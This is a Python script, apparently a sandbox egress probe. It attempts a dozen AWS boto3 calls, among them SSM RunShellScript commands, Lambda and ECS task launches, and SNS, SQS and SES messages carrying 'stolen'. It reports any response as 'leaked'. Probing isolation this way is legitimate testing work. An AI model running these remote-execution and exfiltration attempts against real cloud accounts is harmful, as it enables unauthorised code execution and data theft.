import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
for service, operation, params in (
    ("lambda", "invoke", {"FunctionName": "f"}), ("stepfunctions", "start_execution", {"stateMachineArn": "arn:aws:states:us-east-1:123456789012:stateMachine:m"}),
    ("ssm", "send_command", {"DocumentName": "AWS-RunShellScript"}), ("ecs", "run_task", {"taskDefinition": "t"}), ("codebuild", "start_build", {"projectName": "p"}),
    ("sns", "publish", {"TopicArn": "arn:aws:sns:us-east-1:123456789012:t", "Message": "stolen"}), ("sqs", "send_message", {"QueueUrl": "https://sqs.us-east-1.amazonaws.com/123456789012/q", "MessageBody": "stolen"}),
    ("events", "put_events", {"Entries": [{"Source": "s", "DetailType": "d", "Detail": "{}"}]}), ("bedrock-runtime", "invoke_model", {"modelId": "m", "body": b"{}"}),
    ("batch", "submit_job", {"jobName": "j", "jobQueue": "q", "jobDefinition": "d"}), ("glue", "start_job_run", {"JobName": "j"}), ("ses", "send_email", {"Source": "a", "Destination": {}, "Message": {"Subject": {"Data": "x"}, "Body": {}}})):
    attempt(lambda: leak(getattr(boto3.client(service), operation)(**params)))
